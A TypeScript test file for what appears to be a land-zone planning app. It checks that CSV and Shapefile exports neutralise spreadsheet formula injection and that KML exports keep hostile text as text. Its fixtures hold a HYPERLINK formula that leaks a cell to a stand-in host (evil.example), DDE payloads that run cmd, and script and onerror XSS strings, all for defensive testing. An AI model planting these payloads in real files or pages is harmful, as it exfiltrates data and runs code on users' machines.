/**
 * Hostile text in the exports (issue #9): a CSV cell that starts with = + - @ is neutralised
 * against spreadsheet formula injection with a leading quote (OWASP), and the import takes that
 * quote off again, so a round trip keeps the text; the KML stays well-formed XML whatever the text
 * holds ("]]>", control characters) and gives every value back as text, never as markup.
 */
import { DOMParser } from '@xmldom/xmldom';
import type { FeatureCollection } from 'geojson';
import JSZip from 'jszip';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import type { PlotApiFeature, ZoneApiFeature } from '../../geodata/api.ts';
import type { ImportReport } from '../../server/import/index.ts';
import { ANON } from '../support/api-client.ts';
import { signedInAppForFile } from '../support/signed-in-app.ts';

const ZONE = 'ccn-vang-muoi';
const FORMULAS = {
  tenant: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  sector: "+1+cmd|' /C calc'!A0",
  nameEn: "-2+3+cmd|' /C calc'!A0",
  note: "@SUM(1+1)*cmd|' /C calc'!A0",
};
/** Already starts with a quote before "=": gets a second one, so the import can take exactly one off. */
const QUOTED = "'=1+1 <b>bold</b>";
/** "]]>" and a control character are not allowed in XML text as such; "<" and "&" must be escaped. */
const XML_HOSTILE = 'CCN ]]><script>window.__xss=5</script><![CDATA[ & \u0001 <img src=x onerror=alert(1)>';
/** The same without the control character: what the API accepts, and what an import keeps. */
const XML_TYPED = XML_HOSTILE.replace('\u0001', '');

const fx = await signedInAppForFile();
const { db, app, planner } = fx;
let plotId = '';

beforeAll(async () => {
  const zr = await fx.api.call(ANON, 'GET', `/api/zones/${ZONE}`);
  const z = await fx.api.call(planner, 'PATCH', `/api/zones/${ZONE}`, { name: { vi: XML_TYPED, en: FORMULAS.nameEn }, note: FORMULAS.note, developer: QUOTED }, { 'If-Match': zr.headers.get('etag')! });
  expect(z.status, await z.clone().text()).toBe(200);
  // The API and imports no longer take control characters; a row written before they did may hold one.
  await db.query(`UPDATE zones SET props = jsonb_set(props, '{name,vi}', to_jsonb($1::text)) WHERE id = $2`, [XML_HOSTILE, ZONE]);
  const plots = ((await (await fx.api.call(ANON, 'GET', `/api/zones/${ZONE}/plots`)).json()) as { features: PlotApiFeature[] }).features;
  const plot = plots.find((p) => p.properties.status === 'available')!;
  plotId = plot.id;
  const p = await fx.api.call(planner, 'PATCH', `/api/plots/${plot.id}`, { status: 'leased', tenant: FORMULAS.tenant, sector: FORMULAS.sector }, { 'If-Match': `"v${plot.properties.version}"` });
  expect(p.status, await p.clone().text()).toBe(200);
});

const text = async (path: string) => (await app.request(path)).text();
const csvRows = (csv: string) => Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;

describe('CSV export and spreadsheet formulas', () => {
  it('prefixes a quote to every cell that starts with = + - @, and to no other', async () => {
    const plots = csvRows(await text(`/api/export?layer=plots&zone=${ZONE}&format=csv`));
    const row = plots.find((r) => r.id === plotId)!;
    expect(row.tenant).toBe(`'${FORMULAS.tenant}`);
    expect(row.sector).toBe(`'${FORMULAS.sector}`);
    const zones = csvRows(await text('/api/export?layer=zones&format=csv'));
    const zone = zones.find((r) => r.id === ZONE)!;
    expect(zone.name_en).toBe(`'${FORMULAS.nameEn}`);
    expect(zone.note).toBe(`'${FORMULAS.note}`);
    // Text that does not start a formula is exactly as typed, markup and all.
    expect(zone.name_vi).toBe(XML_HOSTILE);
    // No cell of either file is left that a spreadsheet would evaluate.
    for (const r of [...plots, ...zones]) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers stay numbers (a negative one would not be a formula, and none is quoted).
    expect(zone.total_area_ha).toMatch(/^\d/);
  });

  it('guards the sources.csv of a Shapefile export the same way', async () => {
    await db.query(`UPDATE sources SET data = data || $1::jsonb WHERE id = 'backan-gov-bba5'`, [JSON.stringify({ title: FORMULAS.tenant, publisher: FORMULAS.note })]);
    const res = await app.request(`/api/export?layer=zones&zone=${ZONE}&format=shp`);
    const zip = await JSZip.loadAsync(new Uint8Array(await res.arrayBuffer()));
    const src = csvRows(await zip.file('sources.csv')!.async('string')).find((r) => r.id === 'backan-gov-bba5')!;
    expect(src.title).toBe(`'${FORMULAS.tenant}`);
    expect(src.publisher).toBe(`'${FORMULAS.note}`);
  });

  it('a CSV round trip (export, import) gives the text back unchanged, quotes and all', async () => {
    const csv = new Uint8Array(await (await app.request(`/api/export?layer=plots&zone=${ZONE}&format=csv&crs=EPSG:4326`)).arrayBuffer());
    const res = await app.request(`/api/import?layer=plots&zone=${ZONE}&crs=EPSG:4326&dryRun=true&filename=plots.csv`, {
      method: 'POST',
      headers: { Cookie: planner.cookie!, 'X-CSRF-Token': planner.csrf! },
      body: Buffer.from(csv),
    });
    expect(res.status, await res.clone().text()).toBe(200);
    const back = ((await res.json()) as { report: ImportReport; preview: FeatureCollection }).preview.features.find((f) => f.id === plotId)!;
    expect(back.properties!.tenant).toBe(FORMULAS.tenant);
    expect(back.properties!.sector).toBe(FORMULAS.sector);

    const zonesCsv = new Uint8Array(await (await app.request('/api/export?layer=zones&format=csv&crs=EPSG:4326')).arrayBuffer());
    const zr = await app.request('/api/import?layer=zones&crs=EPSG:4326&dryRun=true&filename=zones.csv', {
      method: 'POST',
      headers: { Cookie: planner.cookie!, 'X-CSRF-Token': planner.csrf! },
      body: Buffer.from(zonesCsv),
    });
    expect(zr.status, await zr.clone().text()).toBe(200);
    const zone = ((await zr.json()) as { preview: FeatureCollection }).preview.features.find((f) => f.id === ZONE)!;
    const p = zone.properties as ZoneApiFeature['properties'];
    expect(p.name).toEqual({ vi: XML_TYPED, en: FORMULAS.nameEn });
    expect(p.note).toBe(FORMULAS.note);
  });
});

describe('KML export of hostile text', () => {
  it('is well-formed XML whose text nodes hold the values, with no element made from them', async () => {
    const kml = await text('/api/export?layer=zones&format=kml');
    expect(kml).not.toContain(']]>');
    expect(kml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/);
    const errors: string[] = [];
    const doc = new DOMParser({ onError: (level, msg) => void (level !== 'warning' && errors.push(msg)) }).parseFromString(kml, 'text/xml');
    expect(errors).toEqual([]);
    for (const tag of ['script', 'img', 'b']) expect(doc.getElementsByTagName(tag).length).toBe(0);
    const placemark = [...(doc.getElementsByTagName('Placemark') as unknown as Element[])].find((p) => p.getAttribute('id') === ZONE)!;
    const data = Object.fromEntries(
      [...(placemark.getElementsByTagName('Data') as unknown as Element[])].map((d) => [d.getAttribute('name'), d.getElementsByTagName('value')[0]!.textContent]),
    );
    // XML 1.0 cannot carry U+0001 at all: it is dropped, everything else is the text as stored.
    const expected = XML_TYPED;
    expect(placemark.getElementsByTagName('name')[0]!.textContent).toBe(expected);
    expect(data.name_vi).toBe(expected);
    expect(data.name_en).toBe(FORMULAS.nameEn);
    expect(data.note).toBe(FORMULAS.note);
  });
});
